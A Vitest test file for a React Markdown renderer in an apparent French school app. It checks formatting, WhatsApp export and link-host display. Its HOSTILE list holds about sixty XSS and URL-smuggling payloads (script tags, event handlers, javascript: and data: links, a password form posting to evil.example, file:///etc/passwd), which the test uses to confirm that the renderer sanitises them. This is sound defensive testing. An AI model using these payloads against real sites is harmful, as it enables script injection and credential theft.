// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { MarkdownBlock } from '#platform/markdown/markdown-schema.ts';
import { parseMarkdown } from '#platform/markdown/parse-markdown.ts';
import { whatsAppText } from '#platform/markdown/whatsapp-text.ts';
import { Markdown } from './markdown.tsx';

afterEach(cleanup);

const show = (text: string) => {
  const blocks = parseMarkdown(text);
  for (const block of blocks) MarkdownBlock.parse(block);
  return render(<Markdown blocks={blocks} />).container.firstElementChild!;
};
const htmlOf = (text: string) =>
  show(text)
    .innerHTML.replaceAll(/ (class|target|rel)="[^"]*"/g, '')
    .replaceAll(/<\/?bdi>/g, '');

describe('Markdown', () => {
  it.each([
    ['# Réunion', '<h3>Réunion</h3>'],
    ['Samedi\nà 9 heures\n\nDimanche', '<p>Samedi<br>à 9 heures</p><p>Dimanche</p>'],
    [
      '- un\n- **deux**\n\n3. trois\n4. quatre',
      '<ul><li>un</li><li><strong>deux</strong></li></ul><ol start="3"><li>trois</li><li>quatre</li></ol>',
    ],
    [
      '**gras**, *penché*, ***les deux***, __gras__, _penché_',
      '<p><strong>gras</strong>, <em>penché</em>, <strong><em>les deux</em></strong>, <strong>gras</strong>, <em>penché</em></p>',
    ],
    ['2*3*4, 5 * 6 * 7, a_b_c, **', '<p>2*3*4, 5 * 6 * 7, a_b_c, **</p>'],
    [String.raw`\*pas penché\*`, '<p>*pas penché*</p>'],
    [
      'Voir [le site](https://ecole.cm/a?b=1).',
      '<p>Voir <a href="https://ecole.cm/a?b=1">le site</a><span> (ecole.cm)</span>.</p>',
    ],
    ['Voir https://ecole.cm/a, merci', '<p>Voir <a href="https://ecole.cm/a">ecole.cm/a</a>, merci</p>'],
    [
      '**[le site](https://ecole.cm)**',
      '<p><a href="https://ecole.cm/"><strong>le site</strong></a><span> (ecole.cm)</span></p>',
    ],
    [
      '![photo](https://ecole.cm/a.png)',
      '<p>!<a href="https://ecole.cm/a.png">photo</a><span> (ecole.cm)</span></p>',
    ],
  ])('renders %j', (text, html) => {
    expect(htmlOf(text)).toBe(html);
  });

  it('is written in WhatsApp’s syntax, with complete addresses', () => {
    const blocks = parseMarkdown(
      '# Samedi\n- **à 9 h**\n- *salle 2*\n\n[le site](https://ecole.cm/a)\n\n3. trois',
    );
    expect(whatsAppText(blocks)).toBe(
      '*Samedi*\n\n- *à 9 h*\n- _salle 2_\n\nle site https://ecole.cm/a\n\n3. trois',
    );
  });

  it('shows the host of a link, whatever its text says', () => {
    const hosts = (text: string) => [...show(text).querySelectorAll('bdi')].map((host) => host.textContent);
    expect(hosts('[https://ecole.cm](https://evil.example/ecole.cm)')).toEqual(['evil.example']);
    // A Cyrillic letter within a Latin name is shown in its encoded form.
    expect(hosts('[Frais](https://ecоle.cm)')).toEqual(['xn--ecle-65d.cm']);
    expect(hosts('[moc\u202Eelpmaxe](https://evil.example)')).toEqual(['evil.example']);
    expect(show('[a\u202Eb](https://evil.example)').textContent).toBe('ab (evil.example)');
  });
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  String.raw`[x](\\evil.example)`,
  '[x](https://ecole.cm@evil.example/)',
  '[x](https://ecole.cm:secret@evil.example/)',
  '[x](https://evil.example" onmouseover="alert(1))',
  "[x](https://evil.example' onclick='alert(1))",
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n[x]',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.gif)',
  '![x](x" onerror="alert(1))',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.example/"onclick="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  '**<b onmouseover=alert(1)>x</b>**',
  '# <h1 onclick=alert(1)>x</h1>',
  '- <li style="position:fixed;inset:0">x</li>',
  '1. [x](https://evil.example/`<script>`)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202E[x](https://evil.example)\u202C',
  '[a](https://[::1]/) [b](https://%00/) [c](https://)',
  '__proto__ **constructor** _toString_',
];

describe('a hostile text', () => {
  const ALLOWED: Record<string, string[]> = {
    ...Object.fromEntries(['P', 'BR', 'EM', 'STRONG', 'LI', 'BDI'].map((name) => [name, []])),
    H3: ['class'],
    UL: ['class'],
    OL: ['class', 'start'],
    SPAN: ['class'],
    A: ['href', 'target', 'rel', 'class'],
  };

  it.each(HOSTILE)('becomes only text and checked links: %j', (payload) => {
    for (const text of [payload, `# ${payload}`, `- **${payload}**`, `[${payload}](https://ecole.cm)`]) {
      for (const element of show(text).querySelectorAll('*')) {
        const allowed = ALLOWED[element.tagName];
        expect(allowed, `${element.tagName} of ${text}`).toBeDefined();
        for (const { name } of element.attributes) expect(allowed).toContain(name);
        if (!(element instanceof HTMLAnchorElement)) continue;
        const url = new URL(element.getAttribute('href')!);
        expect(['http:', 'https:']).toContain(url.protocol);
        expect(url.username + url.password).toBe('');
        const shown = element.textContent + (element.nextElementSibling?.textContent ?? '');
        expect(shown).toContain(url.host);
      }
      cleanup();
    }
  });

  it('is parsed to its end, however its marks are nested', () => {
    for (const part of ['*a ', '**a *b ', '[', '[a](', '_a **', '\\', 'https://', '# ', '* *a'])
      expect(parseMarkdown(part.repeat(Math.floor(5000 / part.length))).length).toBeGreaterThan(0);
  });
});
